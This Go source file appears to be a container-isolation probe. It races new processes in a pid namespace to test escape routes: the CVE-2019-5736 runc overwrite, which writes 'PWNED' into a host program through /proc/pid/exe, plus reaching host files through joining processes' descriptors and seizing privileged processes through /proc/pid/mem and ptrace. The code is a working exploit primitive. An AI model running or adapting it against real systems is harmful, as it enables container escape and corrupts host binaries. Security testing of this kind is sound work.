package main

import (
	"errors"
	"os"
	"runtime"
	"strconv"
	"strings"
	"sync"
	"time"

	"golang.org/x/sys/unix"
)

// image are the files whose execution is nobody's secret: what a process of the container itself runs.
var image = map[[2]uint64]bool{}

// race watches every process that appears in this pid namespace until it is killed. args[0] is what to try: "exe" or "ptrace".
func race(args []string) {
	runtime.LockOSThread() // ptrace belongs to a thread
	for _, p := range []string{"/proc/self/exe", "/bin/busybox"} {
		if id, ok := identify(p); ok {
			image[id] = true
		}
	}
	say("racing")
	self := os.Getpid()
	dir, err := unix.Open("/proc", unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		say("open /proc: %v", err)
		return
	}
	buf := make([]byte, 1<<16)
	for {
		_, _ = unix.Seek(dir, 0, 0)
		n, err := unix.ReadDirent(dir, buf)
		if err != nil {
			say("read /proc: %v", err)
			return
		}
		_, _, names := unix.ParseDirent(buf[:n], -1, nil)
		for _, name := range names {
			pid, err := strconv.Atoi(name)
			if err != nil || pid == self || pid == 1 {
				continue
			}
			if args[0] == "exe" {
				overwrite(pid)
			} else {
				intrude(pid, args[1], args[2])
			}
		}
	}
}

func identify(path string) ([2]uint64, bool) {
	var st unix.Stat_t
	if err := unix.Stat(path, &st); err != nil {
		return [2]uint64{}, false
	}
	return [2]uint64{st.Dev, st.Ino}, true
}

var (
	once  sync.Map // of messages, so that a hit is said once
	chase = make(chan struct{}, 16)
)

func hitOnce(message string) {
	if _, again := once.LoadOrStore(message, true); !again {
		hit("%s", message)
	}
}

// overwrite holds the program of a process open and writes to it as soon as the kernel stops answering ETXTBSY, which is when
// the last process that runs it has gone (CVE-2019-5736).
func overwrite(pid int) {
	fd, err := unix.Open("/proc/"+strconv.Itoa(pid)+"/exe", unix.O_RDONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		return
	}
	var st unix.Stat_t
	if unix.Fstat(fd, &st) != nil || image[[2]uint64{st.Dev, st.Ino}] {
		_ = unix.Close(fd)
		return
	}
	select {
	case chase <- struct{}{}:
	default:
		_ = unix.Close(fd)
		return
	}
	go func() {
		defer func() { _ = unix.Close(fd); <-chase }()
		path := "/proc/self/fd/" + strconv.Itoa(fd)
		name, _ := os.Readlink(path)
		for range 400 {
			w, err := unix.Open(path, unix.O_WRONLY|unix.O_CLOEXEC, 0)
			if err == nil {
				_, err = unix.Pwrite(w, []byte("PWNED"), 0)
				_ = unix.Close(w)
			}
			if err == nil {
				hitOnce("wrote to a foreign program: " + name)
				return
			}
			if !errors.Is(err, unix.ETXTBSY) {
				return
			}
			time.Sleep(time.Millisecond)
		}
	}()
}

// intrude tries to take over a process that joins: its descriptors and directories may lead to the marker (an absolute path of
// the host), and its memory and ptrace give its privileges. Only a process that does not run a file of the image counts, and
// for control only one that has more than the capabilities (16 hex digits) which the joined program will have.
func intrude(pid int, capabilities, marker string) {
	base := "/proc/" + strconv.Itoa(pid)
	id, ok := identify(base + "/exe")
	if !ok || image[id] {
		return
	}
	exe, _ := os.Readlink(base + "/exe")
	if _, again := once.LoadOrStore("seen "+exe, true); !again {
		say("seen: a process that runs %q", exe)
	}
	ways := []string{base + "/cwd", base + "/root"}
	for fd := range 24 {
		ways = append(ways, base+"/fd/"+strconv.Itoa(fd))
	}
	for _, way := range ways {
		if f, err := unix.Open(way+marker, unix.O_RDONLY|unix.O_CLOEXEC, 0); err == nil {
			_ = unix.Close(f)
			link, _ := os.Readlink(way)
			hitOnce("the host's files through " + strings.TrimPrefix(way, base) + " -> " + link + " of a joining process")
		}
	}
	mem, err := unix.Open(base+"/mem", unix.O_RDWR|unix.O_CLOEXEC, 0)
	if err == nil {
		if more(base, capabilities) && sameProgram(base, id) {
			hitOnce("memory of a joining process with more privileges: " + exe)
		}
		_ = unix.Close(mem)
	}
	if err := unix.PtraceSeize(pid); err == nil {
		if more(base, capabilities) && sameProgram(base, id) {
			hitOnce("ptrace of a joining process with more privileges: " + exe)
		}
		// Without this the process would wait for ever at its next signal. It may have ended meanwhile.
		_ = unix.PtraceInterrupt(pid)
		_, _ = unix.Wait4(pid, nil, unix.WALL, nil)
		_ = unix.PtraceDetach(pid)
	}
}

// sameProgram says that the process has not reached the execve of the image's program meanwhile.
func sameProgram(base string, id [2]uint64) bool {
	now, ok := identify(base + "/exe")
	return ok && now == id
}

// more says whether a process has effective capabilities beyond the given ones.
func more(base, capabilities string) bool {
	allowed, err := strconv.ParseUint(capabilities, 16, 64)
	if err != nil {
		return false
	}
	have, ok := capabilitySet(base+"/status", "CapEff:")
	return ok && have&^allowed != 0
}

func capabilitySet(status, field string) (uint64, bool) {
	data, err := os.ReadFile(status)
	if err != nil {
		return 0, false
	}
	_, rest, found := strings.Cut(string(data), field)
	if !found {
		return 0, false
	}
	line, _, _ := strings.Cut(rest, "\n")
	v, err := strconv.ParseUint(strings.TrimSpace(line), 16, 64)
	return v, err == nil
}
